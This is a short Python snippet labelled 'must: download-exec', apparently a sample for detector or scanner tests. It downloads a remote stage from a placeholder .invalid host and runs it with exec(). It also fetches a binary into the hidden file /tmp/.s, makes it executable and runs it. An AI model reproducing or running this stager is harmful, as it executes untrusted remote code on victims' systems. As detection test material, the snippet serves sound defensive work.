# must: download-exec
import urllib.request, subprocess, os
data = urllib.request.urlopen("https://cdn.invalid/stage").read()
exec(data)
with open("/tmp/.s", "wb") as f:
    f.write(urllib.request.urlopen("https://cdn.invalid/bin").read())
os.chmod("/tmp/.s", 0o700)
subprocess.call(["/tmp/.s"])
